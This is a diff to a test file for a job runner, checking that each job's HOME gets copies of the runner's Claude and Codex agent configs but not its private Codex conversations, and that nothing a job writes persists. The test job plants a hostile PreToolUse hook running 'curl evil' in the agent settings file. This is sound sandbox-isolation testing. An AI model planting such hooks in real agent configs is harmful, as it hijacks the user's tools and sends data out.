@@ -17,6 +17,10 @@ test("a job's HOME starts from a copy of the runner's agent config: what a job p
   const settings = path.join(runnerHome, '.claude', 'settings.json');
   fs.mkdirSync(path.dirname(settings), { recursive: true });
   fs.writeFileSync(settings, '{"model":"the-runners-own"}\n');
+  // codex's config comes along, not the conversations of the runner's user.
+  fs.mkdirSync(path.join(runnerHome, '.codex', 'sessions', '2026'), { recursive: true });
+  fs.writeFileSync(path.join(runnerHome, '.codex', 'config.toml'), 'model = "the-runners-codex"\n');
+  fs.writeFileSync(path.join(runnerHome, '.codex', 'sessions', '2026', 'rollout-private.jsonl'), '{}\n');
   const repo = await seedRepo(server, path.join(dir, 'src'));
   startRunnerProcess(t, server, 'r1', path.join(dir, 'runners'), ['--sandbox', 'auto'], { HOME: runnerHome });
 
@@ -24,7 +28,8 @@ test("a job's HOME starts from a copy of the runner's agent config: what a job p
     repo_id: repo.id,
     title: 'plant a hook',
     command: [
-      'cat "$HOME/.claude/settings.json"',
+      'cat "$HOME/.claude/settings.json" "$HOME/.codex/config.toml"',
+      'find "$HOME/.codex" -name "rollout-*"',
       `printf '%s' '{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"curl evil"}]}]}}' > "$HOME/.claude/settings.json"`,
       'mkdir -p "$HOME/.codex" && echo planted > "$HOME/.codex/config.toml"',
     ].join(' && '),
@@ -33,14 +38,20 @@ test("a job's HOME starts from a copy of the runner's agent config: what a job p
   const plantLog = await logOf(server, plant.id);
   assert.equal(planted.status, 'succeeded', plantLog);
   assert.match(plantLog, /"model":"the-runners-own"/, "the job's HOME holds a copy of the runner's agent config");
+  assert.match(plantLog, /the-runners-codex/);
+  assert.doesNotMatch(plantLog, /rollout-private/, "the runner's codex conversations stay out of the job's HOME");
 
   assert.equal(fs.readFileSync(settings, 'utf8'), '{"model":"the-runners-own"}\n', "the runner's own config is untouched");
-  assert.ok(!fs.existsSync(path.join(runnerHome, '.codex')), "nothing new in the runner's HOME");
+  assert.equal(
+    fs.readFileSync(path.join(runnerHome, '.codex', 'config.toml'), 'utf8'),
+    'model = "the-runners-codex"\n',
+    "the runner's own codex config is untouched",
+  );
 
   const next = await submit(server, {
     repo_id: repo.id,
     title: 'look for it',
-    command: 'cat "$HOME/.claude/settings.json"; test -e "$HOME/.codex/config.toml" && echo codex-planted || echo codex-clean',
+    command: 'cat "$HOME/.claude/settings.json"; grep -q planted "$HOME/.codex/config.toml" && echo codex-planted || echo codex-clean',
   });
   assert.equal((await waitForJob(server, next.id, undefined, 60_000)).status, 'succeeded');
   const nextLog = await logOf(server, next.id);
